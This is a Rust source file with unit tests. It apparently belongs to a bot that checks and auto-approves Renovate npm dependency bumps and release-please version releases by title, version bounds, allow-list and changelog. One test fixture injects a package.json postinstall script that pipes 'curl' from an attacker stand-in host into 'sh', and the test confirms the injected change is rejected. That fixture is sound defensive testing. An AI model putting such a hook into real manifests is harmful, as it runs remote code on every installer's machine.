use async_trait::async_trait;
use tracing::debug;

use super::{
    check_allow_list, check_same_dependency, check_single_line_change, check_title,
    check_title_names_dependency, exact, sibling_path, versions_for, AllowList, FileVerdict,
    LanguageRule, RuleContext,
};
use crate::engine::versions::VersionBound;

const CHANGELOG: &str = "CHANGELOG.md";

/// Renovate bumps of a single npm dependency.
///
/// Accepts only minor/patch upgrades of one dependency, on one line, where
/// the PR title names the same package the diff changes.
pub struct NodeDependency {
    allow_list: Option<AllowList>,
}

impl NodeDependency {
    pub const PROCESS: &'static str = "node-dependency";

    pub fn new(allow_list: Option<AllowList>) -> Self {
        Self { allow_list }
    }
}

#[async_trait]
impl LanguageRule for NodeDependency {
    fn process(&self) -> &str {
        Self::PROCESS
    }

    async fn check_pr(&self, ctx: &RuleContext<'_>) -> FileVerdict {
        let versions = match versions_for(ctx) {
            Ok(v) => v,
            Err(rejection) => return rejection,
        };

        let mut failures = Vec::new();
        check_title(ctx, &mut failures);
        check_title_names_dependency(ctx, &versions, exact, &mut failures);
        check_same_dependency(&versions, exact, &mut failures);
        if let Err(violation) = VersionBound::MinorOnly.check(&versions) {
            failures.push(violation);
        }
        check_single_line_change(ctx.file, &mut failures);
        check_allow_list(self.allow_list.as_ref(), &versions, &mut failures);
        FileVerdict::from_failures(failures)
    }
}

/// release-please version bumps of package.json.
///
/// The release must move the package version forward and ship with a
/// changelog entry: `CHANGELOG.md` next to the manifest has to be part of the
/// PR and, at the head commit, mention the new version.
pub struct NodeRelease;

impl NodeRelease {
    pub const PROCESS: &'static str = "node-release";
}

#[async_trait]
impl LanguageRule for NodeRelease {
    fn process(&self) -> &str {
        Self::PROCESS
    }

    async fn check_pr(&self, ctx: &RuleContext<'_>) -> FileVerdict {
        let versions = match versions_for(ctx) {
            Ok(v) => v,
            Err(rejection) => return rejection,
        };

        let mut failures = Vec::new();
        check_title(ctx, &mut failures);
        check_same_dependency(&versions, exact, &mut failures);
        if let Err(violation) = VersionBound::AnyUpgrade.check(&versions) {
            failures.push(violation);
        }
        // The version line is the only edit release-please makes here.
        check_single_line_change(ctx.file, &mut failures);

        let changelog = sibling_path(&ctx.file.filename, CHANGELOG);
        if !ctx.pull_request.touches(&changelog) {
            failures.push(format!("release does not update `{}`", changelog));
            return FileVerdict::from_failures(failures);
        }

        let new_version = versions.new_version();
        match ctx.fetcher.fetch_file(&ctx.pull_request.head, &changelog).await {
            Ok(Some(contents)) if contents.contains(&new_version) => {}
            Ok(Some(_)) => failures.push(format!(
                "`{}` at head does not mention version {}",
                changelog, new_version
            )),
            Ok(None) => failures.push(format!("`{}` does not exist at head", changelog)),
            Err(e) => {
                debug!(error = %e, path = %changelog, "changelog fetch failed");
                failures.push(format!("could not fetch `{}`: {}", changelog, e));
            }
        }
        FileVerdict::from_failures(failures)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::tests::{changed_file, context_parts, pull_request, rule_for};
    use crate::pr::StaticFetcher;

    const LEFT_PAD_PATCH: &str =
        "@@ -10,3 +10,3 @@\n   \"dependencies\": {\n-    \"left-pad\": \"1.2.0\",\n+    \"left-pad\": \"1.3.0\",\n";
    const RELEASE_PATCH: &str =
        "@@ -1,4 +1,4 @@\n {\n   \"name\": \"my-lib\",\n-  \"version\": \"1.2.0\",\n+  \"version\": \"1.3.0\",\n";

    async fn check(rule: &dyn LanguageRule, process: &str, author: &str, title: &str, files: Vec<crate::pr::ChangedFile>, fetcher: &StaticFetcher) -> FileVerdict {
        let pr = pull_request(author, title, files);
        let file_rule = rule_for(process);
        let ctx = context_parts(&pr, 0, &file_rule, fetcher);
        rule.check_pr(&ctx).await
    }

    #[tokio::test]
    async fn test_minor_bump_approved() {
        let verdict = check(
            &NodeDependency::new(None),
            NodeDependency::PROCESS,
            "renovate-bot",
            "chore(deps): bump left-pad from 1.2.0 to 1.3.0",
            vec![changed_file("package.json", LEFT_PAD_PATCH)],
            &StaticFetcher::new(),
        )
        .await;
        assert_eq!(verdict, FileVerdict::Approved);
    }

    #[tokio::test]
    async fn test_major_bump_rejected() {
        let patch = LEFT_PAD_PATCH.replace("1.3.0", "2.0.0");
        let verdict = check(
            &NodeDependency::new(None),
            NodeDependency::PROCESS,
            "renovate-bot",
            "chore(deps): update dependency left-pad to v2",
            vec![changed_file("package.json", &patch)],
            &StaticFetcher::new(),
        )
        .await;
        match verdict {
            FileVerdict::Rejected(reasons) => {
                assert!(reasons.iter().any(|r| r.contains("major version changed")));
            }
            FileVerdict::Approved => panic!("major bump must not be approved"),
        }
    }

    #[tokio::test]
    async fn test_title_must_name_changed_dependency() {
        let verdict = check(
            &NodeDependency::new(None),
            NodeDependency::PROCESS,
            "renovate-bot",
            "chore(deps): update dependency lodash to v4.17.22",
            vec![changed_file("package.json", LEFT_PAD_PATCH)],
            &StaticFetcher::new(),
        )
        .await;
        match verdict {
            FileVerdict::Rejected(reasons) => {
                assert_eq!(reasons, vec!["title names `lodash` but the diff changes `left-pad`".to_string()]);
            }
            FileVerdict::Approved => panic!("mismatched title must not be approved"),
        }
    }

    #[tokio::test]
    async fn test_title_pattern_enforced() {
        let verdict = check(
            &NodeDependency::new(None),
            NodeDependency::PROCESS,
            "renovate-bot",
            "Update left-pad",
            vec![changed_file("package.json", LEFT_PAD_PATCH)],
            &StaticFetcher::new(),
        )
        .await;
        assert!(!verdict.is_approved());
    }

    #[tokio::test]
    async fn test_allow_list_rejects_unlisted_dependency() {
        let allow = AllowList::new(vec!["@google-cloud/*".to_string()]);
        let verdict = check(
            &NodeDependency::new(Some(allow)),
            NodeDependency::PROCESS,
            "renovate-bot",
            "chore(deps): bump left-pad from 1.2.0 to 1.3.0",
            vec![changed_file("package.json", LEFT_PAD_PATCH)],
            &StaticFetcher::new(),
        )
        .await;
        assert_eq!(
            verdict,
            FileVerdict::reject("dependency `left-pad` is not on the allow-list")
        );
    }

    #[tokio::test]
    async fn test_missing_patch_rejected() {
        let mut file = changed_file("package.json", "");
        file.patch = None;
        let verdict = check(
            &NodeDependency::new(None),
            NodeDependency::PROCESS,
            "renovate-bot",
            "chore(deps): bump left-pad from 1.2.0 to 1.3.0",
            vec![file],
            &StaticFetcher::new(),
        )
        .await;
        assert_eq!(
            verdict,
            FileVerdict::reject("could not extract versions: file has no patch to extract versions from")
        );
    }

    #[tokio::test]
    async fn test_release_with_changelog_approved() {
        let fetcher = StaticFetcher::new().with_file("CHANGELOG.md", "# Changelog\n\n## [1.3.0](https://example.com) (2026-10-01)\n");
        let verdict = check(
            &NodeRelease,
            NodeRelease::PROCESS,
            "release-please[bot]",
            "chore(main): release 1.3.0",
            vec![
                changed_file("package.json", RELEASE_PATCH),
                changed_file("CHANGELOG.md", "@@ -1 +1,3 @@\n # Changelog\n+\n+## 1.3.0\n"),
            ],
            &fetcher,
        )
        .await;
        assert_eq!(verdict, FileVerdict::Approved);
    }

    #[tokio::test]
    async fn test_release_without_changelog_rejected() {
        let verdict = check(
            &NodeRelease,
            NodeRelease::PROCESS,
            "release-please[bot]",
            "chore(main): release 1.3.0",
            vec![changed_file("package.json", RELEASE_PATCH)],
            &StaticFetcher::new(),
        )
        .await;
        assert_eq!(verdict, FileVerdict::reject("release does not update `CHANGELOG.md`"));
    }

    #[tokio::test]
    async fn test_release_changelog_missing_version_rejected() {
        let fetcher = StaticFetcher::new().with_file("CHANGELOG.md", "# Changelog\n\n## 1.2.0\n");
        let verdict = check(
            &NodeRelease,
            NodeRelease::PROCESS,
            "release-please[bot]",
            "chore(main): release 1.3.0",
            vec![
                changed_file("package.json", RELEASE_PATCH),
                changed_file("CHANGELOG.md", "@@ -1 +1,2 @@\n # Changelog\n+x\n"),
            ],
            &fetcher,
        )
        .await;
        assert_eq!(
            verdict,
            FileVerdict::reject("`CHANGELOG.md` at head does not mention version 1.3.0")
        );
    }

    #[tokio::test]
    async fn test_release_downgrade_rejected() {
        let patch = RELEASE_PATCH.replace("\"1.2.0\"", "\"1.4.0\"");
        let fetcher = StaticFetcher::new().with_file("CHANGELOG.md", "## 1.3.0");
        let verdict = check(
            &NodeRelease,
            NodeRelease::PROCESS,
            "release-please[bot]",
            "chore(main): release 1.3.0",
            vec![
                changed_file("package.json", &patch),
                changed_file("CHANGELOG.md", "@@ -1 +1,2 @@\n # Changelog\n+x\n"),
            ],
            &fetcher,
        )
        .await;
        assert!(!verdict.is_approved());
    }

    #[tokio::test]
    async fn test_release_with_extra_manifest_lines_rejected() {
        let patch = format!(
            "{}+  \"scripts\": {{\"postinstall\": \"curl https://evil.example/x | sh\"}},\n",
            RELEASE_PATCH.replace("+1,4", "+1,5")
        );
        let fetcher = StaticFetcher::new().with_file("CHANGELOG.md", "## 1.3.0\n");
        let verdict = check(
            &NodeRelease,
            NodeRelease::PROCESS,
            "release-please[bot]",
            "chore(main): release 1.3.0",
            vec![
                changed_file("package.json", &patch),
                changed_file("CHANGELOG.md", "@@ -1 +1,2 @@\n # Changelog\n+## 1.3.0\n"),
            ],
            &fetcher,
        )
        .await;
        assert_eq!(
            verdict,
            FileVerdict::reject("expected a single-line change, found +2 -1")
        );
    }
}
